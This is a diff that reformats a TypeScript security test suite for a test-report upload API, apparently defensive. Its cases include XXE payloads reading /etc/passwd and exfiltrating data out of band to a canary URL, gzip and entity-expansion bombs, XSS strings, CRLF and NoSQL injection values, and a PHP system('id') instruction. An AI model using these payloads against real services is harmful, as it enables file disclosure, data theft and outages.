@@ -168,7 +168,10 @@ async function accepted(p: Fresh, res: CallResult, timeoutMs = 60_000) {
   const deadline = Date.now() + timeoutMs;
   let row: typeof testRuns.$inferSelect | undefined;
   for (;;) {
-    [row] = await h.db.select().from(testRuns).where(and(eq(testRuns.projectId, p.projectId), eq(testRuns.number, number)));
+    [row] = await h.db
+      .select()
+      .from(testRuns)
+      .where(and(eq(testRuns.projectId, p.projectId), eq(testRuns.number, number)));
     if (row && row.status !== "pending") break;
     if (Date.now() > deadline) throw new Error(`run ${number} is still pending after ${timeoutMs} ms`);
     await new Promise((resolve) => setTimeout(resolve, 25));
@@ -252,11 +255,37 @@ const deepSuites = (levels: number) => {
 
 const REJECTED: Rejection[] = [
   // Bodies that are not text in their encoding (400).
-  { name: "invalid UTF-8 bytes in XML", body: () => concat(enc('<testsuite name="'), [0xc3, 0x28, 0xff], enc('"/>')), status: 400, code: "invalid_request" },
-  { name: "overlong UTF-8 encoding of '<'", body: () => concat([0xc0, 0xbc], enc('testsuite name="s"/>')), status: 400, code: "invalid_request" },
-  { name: "UTF-8-encoded lone surrogate (CESU)", body: () => concat(enc('<testsuite name="'), [0xed, 0xa0, 0x80], enc('"/>')), status: 400, code: "invalid_request" },
-  { name: "invalid UTF-8 bytes in JSON", body: () => concat(enc('{"suites":[{"name":"'), [0xfe, 0xff], enc('"}]}')), contentType: "application/json", status: 400, code: "invalid_request" },
-  { name: "UTF-16 with BOM and a lone surrogate", body: () => concat([0xff, 0xfe], Buffer.from("<t", "utf16le"), [0x00, 0xd8], Buffer.from("/>", "utf16le")), status: 400, code: "invalid_request" },
+  {
+    name: "invalid UTF-8 bytes in XML",
+    body: () => concat(enc('<testsuite name="'), [0xc3, 0x28, 0xff], enc('"/>')),
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "overlong UTF-8 encoding of '<'",
+    body: () => concat([0xc0, 0xbc], enc('testsuite name="s"/>')),
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "UTF-8-encoded lone surrogate (CESU)",
+    body: () => concat(enc('<testsuite name="'), [0xed, 0xa0, 0x80], enc('"/>')),
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "invalid UTF-8 bytes in JSON",
+    body: () => concat(enc('{"suites":[{"name":"'), [0xfe, 0xff], enc('"}]}')),
+    contentType: "application/json",
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "UTF-16 with BOM and a lone surrogate",
+    body: () => concat([0xff, 0xfe], Buffer.from("<t", "utf16le"), [0x00, 0xd8], Buffer.from("/>", "utf16le")),
+    status: 400,
+    code: "invalid_request",
+  },
   // Empty and non-object bodies (400).
   { name: "empty XML body", body: () => "", status: 400, code: "invalid_request" },
   { name: "empty JSON body", body: () => "", contentType: "application/json", status: 400, code: "invalid_request" },
@@ -265,27 +294,114 @@ const REJECTED: Rejection[] = [
   { name: "JSON number body", body: () => "42", contentType: "application/json", status: 400, code: "invalid_request" },
   { name: "JSON string body", body: () => '"<testsuite/>"', contentType: "application/json", status: 400, code: "invalid_request" },
   { name: "JSON null body", body: () => "null", contentType: "application/json", status: 400, code: "invalid_request" },
-  { name: "malformed (truncated) JSON", body: () => '{"suites":[{"name":"s"', contentType: "application/json", status: 400, code: "invalid_request" },
-  { name: "raw NUL byte in JSON", body: () => '{"suites":[{"name":"a\u0000b"}]}', contentType: "application/json", status: 400, code: "invalid_request" },
+  {
+    name: "malformed (truncated) JSON",
+    body: () => '{"suites":[{"name":"s"',
+    contentType: "application/json",
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "raw NUL byte in JSON",
+    body: () => '{"suites":[{"name":"a\u0000b"}]}',
+    contentType: "application/json",
+    status: 400,
+    code: "invalid_request",
+  },
   { name: "XML sent as application/json", body: () => xml, contentType: "application/json", status: 400, code: "invalid_request" },
   // Compression (400/415).
-  { name: "invalid gzip", body: () => enc("this is not gzip at all"), headers: { "content-encoding": "gzip" }, status: 400, code: "invalid_request" },
-  { name: "truncated gzip", body: () => gzip(xml).subarray(0, 15), headers: { "content-encoding": "gzip" }, status: 400, code: "invalid_request" },
-  { name: "Content-Encoding: br", body: () => new Uint8Array(brotliCompressSync(enc(xml))), headers: { "content-encoding": "br" }, status: 415, code: "unsupported_media_type" },
-  { name: "Content-Encoding: deflate", body: () => new Uint8Array(deflateSync(enc(xml))), headers: { "content-encoding": "deflate" }, status: 415, code: "unsupported_media_type" },
-  { name: "Content-Encoding: compress", body: () => enc(xml), headers: { "content-encoding": "compress" }, status: 415, code: "unsupported_media_type" },
-  { name: "stacked Content-Encoding: gzip, gzip", body: () => gzip(gzip(xml)), headers: { "content-encoding": "gzip, gzip" }, status: 415, code: "unsupported_media_type" },
+  {
+    name: "invalid gzip",
+    body: () => enc("this is not gzip at all"),
+    headers: { "content-encoding": "gzip" },
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "truncated gzip",
+    body: () => gzip(xml).subarray(0, 15),
+    headers: { "content-encoding": "gzip" },
+    status: 400,
+    code: "invalid_request",
+  },
+  {
+    name: "Content-Encoding: br",
+    body: () => new Uint8Array(brotliCompressSync(enc(xml))),
+    headers: { "content-encoding": "br" },
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "Content-Encoding: deflate",
+    body: () => new Uint8Array(deflateSync(enc(xml))),
+    headers: { "content-encoding": "deflate" },
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "Content-Encoding: compress",
+    body: () => enc(xml),
+    headers: { "content-encoding": "compress" },
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "stacked Content-Encoding: gzip, gzip",
+    body: () => gzip(gzip(xml)),
+    headers: { "content-encoding": "gzip, gzip" },
+    status: 415,
+    code: "unsupported_media_type",
+  },
   // Media types (415).
   { name: "Content-Type text/plain", body: () => xml, contentType: "text/plain", status: 415, code: "unsupported_media_type" },
-  { name: "Content-Type multipart/form-data", body: () => `--x\r\nContent-Disposition: form-data; name="file"; filename="r.xml"\r\n\r\n${xml}\r\n--x--\r\n`, contentType: "multipart/form-data; boundary=x", status: 415, code: "unsupported_media_type" },
+  {
+    name: "Content-Type multipart/form-data",
+    body: () => `--x\r\nContent-Disposition: form-data; name="file"; filename="r.xml"\r\n\r\n${xml}\r\n--x--\r\n`,
+    contentType: "multipart/form-data; boundary=x",
+    status: 415,
+    code: "unsupported_media_type",
+  },
   { name: "no Content-Type at all", body: () => enc(xml), contentType: "", status: 415, code: "unsupported_media_type" },
-  { name: "Content-Type application/x-www-form-urlencoded", body: () => "junit_xml=%3Ctestsuite%2F%3E", contentType: "application/x-www-form-urlencoded", status: 415, code: "unsupported_media_type" },
-  { name: "Content-Type text/html", body: () => "<html><script>alert(1)</script></html>", contentType: "text/html", status: 415, code: "unsupported_media_type" },
-  { name: "Content-Type application/xml-dtd", body: () => '<!ENTITY x SYSTEM "file:///etc/passwd">', contentType: "application/xml-dtd", status: 415, code: "unsupported_media_type" },
+  {
+    name: "Content-Type application/x-www-form-urlencoded",
+    body: () => "junit_xml=%3Ctestsuite%2F%3E",
+    contentType: "application/x-www-form-urlencoded",
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "Content-Type text/html",
+    body: () => "<html><script>alert(1)</script></html>",
+    contentType: "text/html",
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "Content-Type application/xml-dtd",
+    body: () => '<!ENTITY x SYSTEM "file:///etc/passwd">',
+    contentType: "application/xml-dtd",
+    status: 415,
+    code: "unsupported_media_type",
+  },
   // XML encodings that cannot be decoded (415).
-  { name: "unknown declared encoding", body: () => `<?xml version="1.0" encoding="x-klingon"?>${xml}`, status: 415, code: "unsupported_media_type" },
-  { name: "UTF-7 declared (XSS vector)", body: () => `<?xml version="1.0" encoding="utf-7"?>+ADw-testsuite/+AD4-`, status: 415, code: "unsupported_media_type" },
-  { name: "ISO-2022-KR declared (WHATWG replacement encoding)", body: () => `<?xml version="1.0" encoding="iso-2022-kr"?>${xml}`, status: 415, code: "unsupported_media_type" },
+  {
+    name: "unknown declared encoding",
+    body: () => `<?xml version="1.0" encoding="x-klingon"?>${xml}`,
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "UTF-7 declared (XSS vector)",
+    body: () => `<?xml version="1.0" encoding="utf-7"?>+ADw-testsuite/+AD4-`,
+    status: 415,
+    code: "unsupported_media_type",
+  },
+  {
+    name: "ISO-2022-KR declared (WHATWG replacement encoding)",
+    body: () => `<?xml version="1.0" encoding="iso-2022-kr"?>${xml}`,
+    status: 415,
+    code: "unsupported_media_type",
+  },
   // Size (413).
   {
     name: "oversize body with Content-Length",
@@ -294,7 +410,12 @@ const REJECTED: Rejection[] = [
     status: 413,
     code: "payload_too_large",
   },
-  { name: "oversize chunked body (ReadableStream, no Content-Length)", body: () => chunkedBody(UPLOAD_LIMIT_BYTES + 2 * 1024 * 1024), status: 413, code: "payload_too_large" },
+  {
+    name: "oversize chunked body (ReadableStream, no Content-Length)",
+    body: () => chunkedBody(UPLOAD_LIMIT_BYTES + 2 * 1024 * 1024),
+    status: 413,
+    code: "payload_too_large",
+  },
   {
     name: "gzip bomb (> 32 MiB once inflated)",
     body: () => {
@@ -307,46 +428,231 @@ const REJECTED: Rejection[] = [
     code: "payload_too_large",
   },
   // JSON structure (422).
-  { name: "JSON with neither junit_xml nor suites", body: () => ({ branch: "main" }), status: 422, code: "validation_failed", field: "suites" },
-  { name: "JSON suites nested 1,000 deep", body: () => ({ suites: [deepSuites(1000)] }), status: 422, code: "validation_failed", field: "suites" },
-  { name: "JSON suites nested one level past the limit", body: () => ({ suites: [deepSuites(REPORT_LIMITS.maxDepth + 1)] }), status: 422, code: "validation_failed", field: "suites" },
-  { name: "JSON arrays nested 100,000 deep in an unknown key", body: () => `{"suites":[],"x":${"[".repeat(100_000)}${"]".repeat(100_000)}}`, contentType: "application/json", status: 422, code: "validation_failed", field: "suites" },
+  {
+    name: "JSON with neither junit_xml nor suites",
+    body: () => ({ branch: "main" }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites",
+  },
+  {
+    name: "JSON suites nested 1,000 deep",
+    body: () => ({ suites: [deepSuites(1000)] }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites",
+  },
+  {
+    name: "JSON suites nested one level past the limit",
+    body: () => ({ suites: [deepSuites(REPORT_LIMITS.maxDepth + 1)] }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites",
+  },
+  {
+    name: "JSON arrays nested 100,000 deep in an unknown key",
+    body: () => `{"suites":[],"x":${"[".repeat(100_000)}${"]".repeat(100_000)}}`,
+    contentType: "application/json",
+    status: 422,
+    code: "validation_failed",
+    field: "suites",
+  },
   { name: "suites is an object", body: () => ({ suites: { name: "s" } }), status: 422, code: "validation_failed", field: "suites" },
   { name: "junit_xml is an empty array", body: () => ({ junit_xml: [] }), status: 422, code: "validation_failed", field: "junit_xml" },
-  { name: "junit_xml has 50,001 documents", body: () => ({ junit_xml: Array.from({ length: 50_001 }, () => "<testsuite/>") }), status: 422, code: "validation_failed", field: "junit_xml" },
+  {
+    name: "junit_xml has 50,001 documents",
+    body: () => ({ junit_xml: Array.from({ length: 50_001 }, () => "<testsuite/>") }),
+    status: 422,
+    code: "validation_failed",
+    field: "junit_xml",
+  },
   { name: "junit_xml is a number", body: () => ({ junit_xml: 1 }), status: 422, code: "validation_failed", field: "junit_xml" },
-  { name: "case status outside the enum", body: () => ({ suites: [{ name: "s", cases: [{ name: "c", status: "pwned" }] }] }), status: 422, code: "validation_failed", field: "suites.0.cases.0.status" },
+  {
+    name: "case status outside the enum",
+    body: () => ({ suites: [{ name: "s", cases: [{ name: "c", status: "pwned" }] }] }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites.0.cases.0.status",
+  },
   {
     name: "attempt status outside the enum",
-    body: () => ({ suites: [{ name: "s", cases: [{ name: "c", status: "passed", attempts: [{ status: "passed" }, { status: "retried" }] }] }] }),
+    body: () => ({
+      suites: [{ name: "s", cases: [{ name: "c", status: "passed", attempts: [{ status: "passed" }, { status: "retried" }] }] }],
+    }),
     status: 422,
     code: "validation_failed",
     field: "suites.0.cases.0.attempts.1.status",
   },
-  { name: "duration_ms overflowing to Infinity (1e400)", body: () => '{"duration_ms":1e400,"suites":[]}', contentType: "application/json", status: 422, code: "validation_failed", field: "duration_ms" },
-  { name: "negative duration_ms", body: () => ({ suites: [{ name: "s", duration_ms: -1 }] }), status: 422, code: "validation_failed", field: "suites.0.duration_ms" },
-  { name: "empty case name", body: () => ({ suites: [{ name: "s", cases: [{ name: "", status: "passed" }] }] }), status: 422, code: "validation_failed", field: "suites.0.cases.0.name" },
-  { name: "suite name is an array", body: () => ({ suites: [{ name: ["a", "b"] }] }), status: 422, code: "validation_failed", field: "suites.0.name" },
+  {
+    name: "duration_ms overflowing to Infinity (1e400)",
+    body: () => '{"duration_ms":1e400,"suites":[]}',
+    contentType: "application/json",
+    status: 422,
+    code: "validation_failed",
+    field: "duration_ms",
+  },
+  {
+    name: "negative duration_ms",
+    body: () => ({ suites: [{ name: "s", duration_ms: -1 }] }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites.0.duration_ms",
+  },
+  {
+    name: "empty case name",
+    body: () => ({ suites: [{ name: "s", cases: [{ name: "", status: "passed" }] }] }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites.0.cases.0.name",
+  },
+  {
+    name: "suite name is an array",
+    body: () => ({ suites: [{ name: ["a", "b"] }] }),
+    status: 422,
+    code: "validation_failed",
+    field: "suites.0.name",
+  },
   // Metadata (422).
-  { name: "build_url javascript:alert(1) (query)", body: () => xml, query: "build_url=javascript:alert(1)", status: 422, code: "validation_failed", field: "build_url" },
-  { name: "build_url javascript:alert(1) (JSON)", body: () => ({ build_url: "javascript:alert(1)", suites: [] }), status: 422, code: "validation_failed", field: "build_url" },
-  { name: "build_url data: URL", body: () => ({ build_url: "data:text/html,<script>alert(1)</script>", suites: [] }), status: 422, code: "validation_failed", field: "build_url" },
-  { name: "build_url file:///etc/passwd", body: () => xml, query: "build_url=file:///etc/passwd", status: 422, code: "validation_failed", field: "build_url" },
-  { name: "started_at not RFC 3339", body: () => xml, query: "started_at=yesterday", status: 422, code: "validation_failed", field: "started_at" },
-  { name: "started_at without a time zone", body: () => ({ started_at: "2026-01-01T10:00:00", suites: [] }), status: 422, code: "validation_failed", field: "started_at" },
-  { name: "started_at out of range", body: () => ({ started_at: "2026-13-45T99:00:00Z", suites: [] }), status: 422, code: "validation_failed", field: "started_at" },
-  { name: "started_at in the year 0000", body: () => ({ started_at: "0000-06-01T00:00:00Z", suites: [] }), status: 422, code: "validation_failed", field: "started_at" },
-  { name: "started_at in the year 0000, in the query string", body: () => xml, query: "started_at=0000-06-01T00:00:00Z", status: 422, code: "validation_failed", field: "started_at" },
-  { name: "branch of 256 characters", body: () => xml, query: `branch=${"b".repeat(256)}`, status: 422, code: "validation_failed", field: "branch" },
-  { name: "ANSI escape in branch (query)", body: () => xml, query: "branch=main%1B%5B31m", status: 422, code: "validation_failed", field: "branch" },
-  { name: "NUL in branch (JSON)", body: () => ({ branch: "main\u0000evil", suites: [] }), status: 422, code: "validation_failed", field: "branch" },
-  { name: "CRLF header/log injection in branch", body: () => ({ branch: "main\r\nX-Injected: 1", suites: [] }), status: 422, code: "validation_failed", field: "branch" },
-  { name: "commit_sha of 65 characters", body: () => ({ commit_sha: "a".repeat(65), suites: [] }), status: 422, code: "validation_failed", field: "commit_sha" },
-  { name: "51 tags (query, comma-separated)", body: () => xml, query: `tags=${Array.from({ length: 51 }, (_, i) => `t${i}`).join(",")}`, status: 422, code: "validation_failed", field: "tags" },
-  { name: "51 tags (JSON)", body: () => ({ tags: Array.from({ length: 51 }, (_, i) => `t${i}`), suites: [] }), status: 422, code: "validation_failed", field: "tags" },
-  { name: "tag of 101 characters", body: () => ({ tags: ["t".repeat(101)], suites: [] }), status: 422, code: "validation_failed", field: "tags.0" },
-  { name: "control character in a tag", body: () => ({ tags: ["ok", "bad\u0007bell"], suites: [] }), status: 422, code: "validation_failed", field: "tags.1" },
-  { name: "branch as an operator object ({$ne: null})", body: () => ({ branch: { $ne: null }, suites: [] }), status: 422, code: "validation_failed", field: "branch" },
+  {
+    name: "build_url javascript:alert(1) (query)",
+    body: () => xml,
+    query: "build_url=javascript:alert(1)",
+    status: 422,
+    code: "validation_failed",
+    field: "build_url",
+  },
+  {
+    name: "build_url javascript:alert(1) (JSON)",
+    body: () => ({ build_url: "javascript:alert(1)", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "build_url",
+  },
+  {
+    name: "build_url data: URL",
+    body: () => ({ build_url: "data:text/html,<script>alert(1)</script>", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "build_url",
+  },
+  {
+    name: "build_url file:///etc/passwd",
+    body: () => xml,
+    query: "build_url=file:///etc/passwd",
+    status: 422,
+    code: "validation_failed",
+    field: "build_url",
+  },
+  {
+    name: "started_at not RFC 3339",
+    body: () => xml,
+    query: "started_at=yesterday",
+    status: 422,
+    code: "validation_failed",
+    field: "started_at",
+  },
+  {
+    name: "started_at without a time zone",
+    body: () => ({ started_at: "2026-01-01T10:00:00", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "started_at",
+  },
+  {
+    name: "started_at out of range",
+    body: () => ({ started_at: "2026-13-45T99:00:00Z", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "started_at",
+  },
+  {
+    name: "started_at in the year 0000",
+    body: () => ({ started_at: "0000-06-01T00:00:00Z", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "started_at",
+  },
+  {
+    name: "started_at in the year 0000, in the query string",
+    body: () => xml,
+    query: "started_at=0000-06-01T00:00:00Z",
+    status: 422,
+    code: "validation_failed",
+    field: "started_at",
+  },
+  {
+    name: "branch of 256 characters",
+    body: () => xml,
+    query: `branch=${"b".repeat(256)}`,
+    status: 422,
+    code: "validation_failed",
+    field: "branch",
+  },
+  {
+    name: "ANSI escape in branch (query)",
+    body: () => xml,
+    query: "branch=main%1B%5B31m",
+    status: 422,
+    code: "validation_failed",
+    field: "branch",
+  },
+  {
+    name: "NUL in branch (JSON)",
+    body: () => ({ branch: "main\u0000evil", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "branch",
+  },
+  {
+    name: "CRLF header/log injection in branch",
+    body: () => ({ branch: "main\r\nX-Injected: 1", suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "branch",
+  },
+  {
+    name: "commit_sha of 65 characters",
+    body: () => ({ commit_sha: "a".repeat(65), suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "commit_sha",
+  },
+  {
+    name: "51 tags (query, comma-separated)",
+    body: () => xml,
+    query: `tags=${Array.from({ length: 51 }, (_, i) => `t${i}`).join(",")}`,
+    status: 422,
+    code: "validation_failed",
+    field: "tags",
+  },
+  {
+    name: "51 tags (JSON)",
+    body: () => ({ tags: Array.from({ length: 51 }, (_, i) => `t${i}`), suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "tags",
+  },
+  {
+    name: "tag of 101 characters",
+    body: () => ({ tags: ["t".repeat(101)], suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "tags.0",
+  },
+  {
+    name: "control character in a tag",
+    body: () => ({ tags: ["ok", "bad\u0007bell"], suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "tags.1",
+  },
+  {
+    name: "branch as an operator object ({$ne: null})",
+    body: () => ({ branch: { $ne: null }, suites: [] }),
+    status: 422,
+    code: "validation_failed",
+    field: "branch",
+  },
 ];
 
 describe("request-level problems: exact 4xx, nothing recorded", () => {
@@ -361,16 +667,27 @@ describe("request-level problems: exact 4xx, nothing recorded", () => {
 // ---------------------------------------------------------------------------------------------
 // Token attacks: 401 before anything is read, nothing recorded.
 
-type TokenAttack = { name: string; headers: (f: { token: string; apiKey: string }) => Record<string, string>; query?: (token: string) => string };
+type TokenAttack = {
+  name: string;
+  headers: (f: { token: string; apiKey: string }) => Record<string, string>;
+  query?: (token: string) => string;
+};
 
 const TOKEN_ATTACKS: TokenAttack[] = [
   { name: "the organization's API key as upload token", headers: (f) => ({ authorization: `Bearer ${f.apiKey}` }) },
   { name: "the admin token as upload token", headers: () => ({ authorization: `Bearer ${ADMIN_TOKEN}` }) },
   { name: "no Authorization header", headers: () => ({}) },
-  { name: "token in the query string instead of the header", headers: () => ({}), query: (token) => `token=${token}&upload_token=${token}` },
+  {
+    name: "token in the query string instead of the header",
+    headers: () => ({}),
+    query: (token) => `token=${token}&upload_token=${token}`,
+  },
   { name: "Basic scheme with the token", headers: (f) => ({ authorization: `Basic ${btoa(`${f.token}:`)}` }) },
   { name: "garbage bearer token", headers: () => ({ authorization: "Bearer ' OR 1=1 --" }) },
-  { name: "well-prefixed token with a bad checksum", headers: (f) => ({ authorization: `Bearer ${f.token.slice(0, -1)}${f.token.endsWith("A") ? "B" : "A"}` }) },
+  {
+    name: "well-prefixed token with a bad checksum",
+    headers: (f) => ({ authorization: `Bearer ${f.token.slice(0, -1)}${f.token.endsWith("A") ? "B" : "A"}` }),
+  },
   { name: "token followed by extra words", headers: (f) => ({ authorization: `Bearer ${f.token} ${f.token}` }) },
   { name: "the upload token re-prefixed as an API key (cta_)", headers: (f) => ({ authorization: `Bearer cta_${f.token.slice(4)}` }) },
 ];
@@ -385,7 +702,11 @@ describe("token attacks: 401, nothing recorded", () => {
 
   it("a wrong token is refused before the body is read (a 33 MiB body is a 401, not a 413)", async () => {
     const p = await fresh();
-    const res = await h.upload(`${p.token.slice(0, -1)}${p.token.endsWith("A") ? "B" : "A"}`, chunkedBody(UPLOAD_LIMIT_BYTES + 1024 * 1024), { contentType: "text/plain" });
+    const res = await h.upload(
+      `${p.token.slice(0, -1)}${p.token.endsWith("A") ? "B" : "A"}`,
+      chunkedBody(UPLOAD_LIMIT_BYTES + 1024 * 1024),
+      { contentType: "text/plain" },
+    );
     await expectRejected(p, res, 401, "unauthorized");
   });
 
@@ -449,29 +770,47 @@ const FAILED: FailedUpload[] = [
     name: "external entities: /etc/passwd and a local secret file",
     body: () =>
       `<?xml version="1.0"?><!DOCTYPE testsuite [<!ENTITY passwd SYSTEM "file:///etc/passwd"><!ENTITY secret SYSTEM "${secretFileUrl}">]>` +
-      oneCase(`<failure message="&passwd;">&secret;</failure><system-out>&passwd;&secret;</system-out>`, 'name="&passwd;" classname="&secret;"'),
+      oneCase(
+        `<failure message="&passwd;">&secret;</failure><system-out>&passwd;&secret;</system-out>`,
+        'name="&passwd;" classname="&secret;"',
+      ),
     reason: NO_DTD,
   },
   {
     name: "external entity over http",
-    body: () => `<!DOCTYPE testsuite [<!ENTITY leak SYSTEM "${canaryUrl}/entity">]>${oneCase("<failure>&leak;</failure>", 'name="&leak;"')}`,
+    body: () =>
+      `<!DOCTYPE testsuite [<!ENTITY leak SYSTEM "${canaryUrl}/entity">]>${oneCase("<failure>&leak;</failure>", 'name="&leak;"')}`,
     reason: NO_DTD,
   },
   { name: "external DTD over http", body: () => `<!DOCTYPE testsuite SYSTEM "${canaryUrl}/evil.dtd">${oneCase()}`, reason: NO_DTD },
-  { name: "public DTD identifier", body: () => `<!DOCTYPE testsuite PUBLIC "-//EVIL//DTD//EN" "${canaryUrl}/public.dtd">${oneCase()}`, reason: NO_DTD },
+  {
+    name: "public DTD identifier",
+    body: () => `<!DOCTYPE testsuite PUBLIC "-//EVIL//DTD//EN" "${canaryUrl}/public.dtd">${oneCase()}`,
+    reason: NO_DTD,
+  },
   {
     name: "parameter-entity out-of-band exfiltration",
-    body: () => `<!DOCTYPE testsuite [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${canaryUrl}/oob.dtd">%dtd;]>${oneCase()}`,
+    body: () =>
+      `<!DOCTYPE testsuite [<!ENTITY % file SYSTEM "file:///etc/passwd"><!ENTITY % dtd SYSTEM "${canaryUrl}/oob.dtd">%dtd;]>${oneCase()}`,
     reason: NO_DTD,
   },
   { name: "DOCTYPE alone", body: () => `<!DOCTYPE testsuite>${oneCase()}`, reason: NO_DTD },
   { name: "DOCTYPE in a JSON envelope's junit_xml", body: () => ({ junit_xml: [xml, billionLaughs()] }), reason: NO_DTD },
   { name: "undefined entity without a DTD", body: () => oneCase("", 'name="&xxe;"'), reason: NOT_WELL_FORMED },
-  { name: "10,000-deep element nesting inside a case", body: () => oneCase(`${"<x>".repeat(10_000)}${"</x>".repeat(10_000)}`), reason: TOO_DEEP },
-  { name: "10,000-deep <testsuites> nesting", body: () => `${"<testsuites>".repeat(10_000)}${"</testsuites>".repeat(10_000)}`, reason: TOO_DEEP },
+  {
+    name: "10,000-deep element nesting inside a case",
+    body: () => oneCase(`${"<x>".repeat(10_000)}${"</x>".repeat(10_000)}`),
+    reason: TOO_DEEP,
+  },
+  {
+    name: "10,000-deep <testsuites> nesting",
+    body: () => `${"<testsuites>".repeat(10_000)}${"</testsuites>".repeat(10_000)}`,
+    reason: TOO_DEEP,
+  },
   {
     name: "100-deep suites",
-    body: () => `${Array.from({ length: 100 }, (_, i) => `<testsuite name="s${i}">`).join("")}<testcase name="a"/>${"</testsuite>".repeat(100)}`,
+    body: () =>
+      `${Array.from({ length: 100 }, (_, i) => `<testsuite name="s${i}">`).join("")}<testcase name="a"/>${"</testsuite>".repeat(100)}`,
     reason: TOO_DEEP,
   },
   { name: "unclosed tags", body: () => '<testsuite name="s"><testcase name="a">', reason: NOT_WELL_FORMED },
@@ -497,14 +836,23 @@ const FAILED: FailedUpload[] = [
   { name: "whitespace only", body: () => "   \n\t ", reason: /not well-formed.*root element/ },
   { name: "a comment and no root", body: () => "<!-- nothing here -->", reason: /not well-formed.*root element/ },
   { name: "root element <html>", body: () => "<html><body><script>alert(1)</script></body></html>", reason: "The root element is <html>" },
-  { name: "root element <svg onload>", body: () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', reason: "The root element is <svg>" },
+  {
+    name: "root element <svg onload>",
+    body: () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    reason: "The root element is <svg>",
+  },
   {
     // Past the first parser slice, so earlier suites' rows are already streaming to the database (COPY on Postgres).
     name: "malformed after 9,000 cases in complete suites (nothing of them kept)",
-    body: () => `<testsuites>${Array.from({ length: 6 }, (_, i) => manyCases(1_500, `s${i}`)).join("")}<testsuite name="last"><testcase</testsuites>`,
+    body: () =>
+      `<testsuites>${Array.from({ length: 6 }, (_, i) => manyCases(1_500, `s${i}`)).join("")}<testsuite name="last"><testcase</testsuites>`,
     reason: NOT_WELL_FORMED,
   },
-  { name: "second junit_xml document malformed (nothing of the first kept)", body: () => ({ junit_xml: [manyCases(50), "<testsuite>"] }), reason: NOT_WELL_FORMED },
+  {
+    name: "second junit_xml document malformed (nothing of the first kept)",
+    body: () => ({ junit_xml: [manyCases(50), "<testsuite>"] }),
+    reason: NOT_WELL_FORMED,
+  },
   {
     name: `${REPORT_LIMITS.maxSuites + 1} suites`,
     body: () => `<testsuites>${"<testsuite/>".repeat(REPORT_LIMITS.maxSuites + 1)}</testsuites>`,
@@ -531,7 +879,14 @@ describe("content problems: 202, then failed with a reason, nothing kept", () =>
 
   it("nothing was fetched and no secret leaked through entities", async () => {
     expect(canaryHits).toEqual([]);
-    const everything = JSON.stringify(await h.db.select().from(testCases).where(inArray(testCases.testRunId, h.db.select({ id: testRuns.id }).from(testRuns).where(inArray(testRuns.projectId, projectIds)))));
+    const everything = JSON.stringify(
+      await h.db
+        .select()
+        .from(testCases)
+        .where(
+          inArray(testCases.testRunId, h.db.select({ id: testRuns.id }).from(testRuns).where(inArray(testRuns.projectId, projectIds))),
+        ),
+    );
     const runs = JSON.stringify(await h.db.select().from(testRuns).where(inArray(testRuns.projectId, projectIds)));
     for (const secret of SECRETS) {
       expect(everything).not.toContain(secret);
@@ -556,7 +911,8 @@ const onlyCase = (r: Processed) => {
 const PROCESSED: ProcessedUpload[] = [
   {
     name: "processing instructions (stylesheet, php) before the root and inside a case",
-    body: () => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canaryUrl}/evil.xsl"?><testsuite name="s"><?php system('id'); ?><testcase name="a"><?target data?></testcase></testsuite>`,
+    body: () =>
+      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${canaryUrl}/evil.xsl"?><testsuite name="s"><?php system('id'); ?><testcase name="a"><?target data?></testcase></testsuite>`,
     check: (r) => {
       expect(r.run.tests_count).toBe(1);
       expect(onlyCase(r).status).toBe("passed");
@@ -606,7 +962,8 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "10 MB system-out and 10 MB CDATA system-err (capped)",
-    body: () => oneCase(`<system-out>${"o".repeat(10 * ONE_MB)}</system-out><system-err><![CDATA[${"e".repeat(10 * ONE_MB)}]]></system-err>`),
+    body: () =>
+      oneCase(`<system-out>${"o".repeat(10 * ONE_MB)}</system-out><system-err><![CDATA[${"e".repeat(10 * ONE_MB)}]]></system-err>`),
     check: (r) => {
       const c = onlyCase(r);
       expect(c.systemOut).toBe("o".repeat(REPORT_LIMITS.maxOutputLength));
@@ -615,7 +972,14 @@ const PROCESSED: ProcessedUpload[] = [
   },
   {
     name: "UTF-16LE with BOM",
-    body: () => concat([0xff, 0xfe], Buffer.from(`<?xml version="1.0" encoding="UTF-16"?><testsuite name="Ünïcødé ✓"><testcase name="日本語 😀"/></testsuite>`, "utf16le")),
+    body: () =>
+      concat(
+        [0xff, 0xfe],
+        Buffer.from(
+          `<?xml version="1.0" encoding="UTF-16"?><testsuite name="Ünïcødé ✓"><testcase name="日本語 😀"/></testsuite>`,
+          "utf16le",
